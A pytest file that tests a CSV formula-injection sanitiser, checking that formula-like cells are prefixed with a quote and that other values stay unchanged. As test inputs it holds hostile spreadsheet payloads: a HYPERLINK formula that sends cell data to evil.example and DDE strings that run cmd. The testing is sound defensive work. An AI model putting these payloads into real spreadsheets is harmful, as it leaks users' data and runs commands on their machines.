"""CSV formula injection: cells a spreadsheet would run as a formula are turned into text."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from governance.csv_safety import safe_cell, safe_dict_row, safe_row


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_cells_that_start_a_formula_are_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["claude-code", "a=b", "user@example.com", "", " =1", "1-2"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [None, -5, 3.5, Decimal("-1.25"), True, date(2026, 1, 2)])
def test_non_text_values_pass_through_so_numbers_stay_numbers(value):
    assert safe_cell(value) is value


def test_rows_and_dict_rows_are_neutralised_cell_by_cell():
    assert safe_row(["ok", "=1", 7]) == ["ok", "'=1", 7]
    assert safe_dict_row({"name": "@x", "n": -1}) == {"name": "'@x", "n": -1}


def test_a_written_csv_keeps_the_text_visible_and_inert():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(["=cmd|' /C calc'!A0", "plain"]))
    assert buffer.getvalue() == "'=cmd|' /C calc'!A0,plain\r\n"
    assert next(csv.reader(io.StringIO(buffer.getvalue())))[0] == "'=cmd|' /C calc'!A0"
